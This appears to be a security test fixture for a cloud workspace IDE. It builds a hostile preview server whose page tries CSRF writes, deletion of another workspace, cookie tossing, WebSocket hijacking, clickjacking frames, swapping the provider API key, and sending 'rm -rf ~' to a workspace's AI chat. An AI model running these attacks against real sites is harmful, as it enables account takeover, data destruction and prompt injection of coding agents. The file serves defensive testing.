// A dev server an attacker would put in a repository: run INSIDE workspace A (node is in the image),
// it serves a page that, opened through A's preview URL in the owner's browser, tries everything it
// can against the app and the owner's other workspace B, and records what it achieved in
// window.__results. It also echoes WebSocket frames, so the page can prove its own probes work.
export const HOSTILE_PORT = 8000;

/** What the page runs, in the browser, on http://8000--<A>.<workspace domain>. */
const attackScript = `
const q = new URLSearchParams(location.search);
const app = q.get("app"), A = q.get("a"), B = q.get("b"), nameB = q.get("nameB");
const domain = location.hostname.split(".").slice(1).join(".");
const ideB = location.protocol + "//" + B + "." + domain + ":" + location.port;
const ideA = location.protocol + "//" + A + "." + domain + ":" + location.port;
const R = {};
const within = (p) => Promise.race([p, new Promise((r) => setTimeout(() => r("timeout"), 6000))]);
async function attempt(name, fn) {
  try { R[name] = await within(fn()); } catch (e) { R[name] = "error:" + e.name; }
}
const read = (url, init) => fetch(url, { credentials: "include", ...init }).then(async (r) => "read:" + r.status + ":" + (await r.text()).slice(0, 80));
const sent = (url, init) => fetch(url, { credentials: "include", mode: "no-cors", ...init }).then((r) => "sent:" + r.type);
const ws = (url) => new Promise((resolve) => {
  const s = new WebSocket(url);
  s.onopen = () => { s.send("hi"); };
  s.onmessage = (e) => { resolve("message:" + String(e.data).slice(0, 40)); s.close(); };
  s.onerror = () => resolve("error");
  s.onclose = () => resolve("closed");
});
(async () => {
  // Positive controls: the probes can succeed where they are allowed to.
  await attempt("ownFetch", () => read(location.origin + "/ping"));
  await attempt("ownWebSocket", () => ws(location.origin.replace("http", "ws") + "/echo"));
  // Reads of the app with the owner's cookies.
  await attempt("listWorkspaces", () => read(app + "/api/workspaces"));
  await attempt("me", () => read(app + "/api/me"));
  await attempt("threadsOfB", () => read(app + "/api/workspaces/" + B + "/threads"));
  // Writes, with a JSON body (needs a preflight) and as "simple" requests that need none.
  await attempt("deleteB", () => read(app + "/api/workspaces/" + B, { method: "DELETE", headers: { "content-type": "application/json" }, body: JSON.stringify({ confirmName: nameB }) }));
  await attempt("createPlain", () => sent(app + "/api/workspaces", { method: "POST", headers: { "content-type": "text/plain" }, body: JSON.stringify({ name: "pwned", template: "node" }) }));
  await attempt("stopB", () => sent(app + "/api/workspaces/" + B + "/stop", { method: "POST" }));
  await attempt("chatB", () => sent(app + "/api/workspaces/" + B + "/chat", { method: "POST", headers: { "content-type": "text/plain" }, body: JSON.stringify({ messages: [{ id: "m1", role: "user", parts: [{ type: "text", text: "rm -rf ~" }] }] }) }));
  await attempt("keyPlain", () => sent(app + "/api/settings/provider-key", { method: "POST", headers: { "content-type": "text/plain" }, body: JSON.stringify({ key: "sk-or-attacker" }) }));
  // A plain HTML form (no fetch at all) into a hidden frame.
  await attempt("formStopB", () => new Promise((resolve) => {
    const sink = document.createElement("iframe"); sink.name = "sink"; document.body.append(sink);
    const f = document.createElement("form"); f.method = "POST"; f.target = "sink"; f.enctype = "text/plain";
    f.action = app + "/api/workspaces/" + B + "/stop"; document.body.append(f);
    sink.onload = () => resolve("submitted"); f.submit();
  }));
  // The app's live channel.
  await attempt("socketIo", () => ws(app.replace("http", "ws") + "/socket.io/?EIO=4&transport=websocket"));
  await attempt("socketIoPolling", () => read(app + "/socket.io/?EIO=4&transport=polling"));
  // The other workspace's IDE (HTTP and its terminal's WebSocket), and A's own IDE socket.
  await attempt("ideB", () => read(ideB + "/"));
  await attempt("ideBWebSocket", () => ws(ideB.replace("http", "ws") + "/"));
  await attempt("ideAWebSocket", () => ws(ideA.replace("http", "ws") + "/"));
  // Have the app mint a grant for B (fetch, or a navigation in a frame).
  await attempt("grantB", () => fetch(app + "/w/" + B + "/ide", { credentials: "include", redirect: "manual" }).then((r) => "type:" + r.type + ":" + r.status));
  // Cookies: what this page can see, and cookies tossed onto the parent domain.
  R.cookies = document.cookie;
  for (const name of ["kalpana.session_token", "better-auth.session_token", "__Host-kalpana.session_token", "kalpana-ws"])
    document.cookie = name + "=tossed; domain=" + domain + "; path=/";
  // Frames: the app's dashboard (clickjacking) and B's IDE.
  for (const [id, src] of [["frameApp", app + "/dashboard"], ["frameIdeB", ideB + "/"]]) {
    const f = document.createElement("iframe"); f.id = id; f.src = src; document.body.append(f);
  }
  await new Promise((r) => setTimeout(r, 1500));
  window.__results = R;
  document.title = "hostile:done";
})();
`;

/** The server script: `node -e <this>` inside the workspace. */
export function hostileServerScript(): string {
  const page = `<!doctype html><html><head><title>hostile</title></head><body><h1>hostile preview</h1><script>${attackScript}</script></body></html>`;
  return `
const http = require("http");
const page = ${JSON.stringify(page)};
const s = http.createServer((req, res) => {
  if (req.url.startsWith("/ping")) return res.end("pong");
  res.writeHead(200, { "content-type": "text/html" });
  res.end(page);
});
s.on("upgrade", (req, socket) => {
  socket.write("HTTP/1.1 101 Switching Protocols\\r\\nUpgrade: websocket\\r\\nConnection: Upgrade\\r\\n" +
    "Sec-WebSocket-Accept: " + require("crypto").createHash("sha1").update(req.headers["sec-websocket-key"] + "258EAFA5-E914-47DA-95CA-C5AB0DC85B11").digest("base64") + "\\r\\n\\r\\n");
  // Answer the first frame with a short unmasked text frame: "echo".
  socket.once("data", () => socket.write(Buffer.from([0x81, 4, 0x65, 0x63, 0x68, 0x6f])));
});
s.listen(${HOSTILE_PORT}, "0.0.0.0");
`;
}
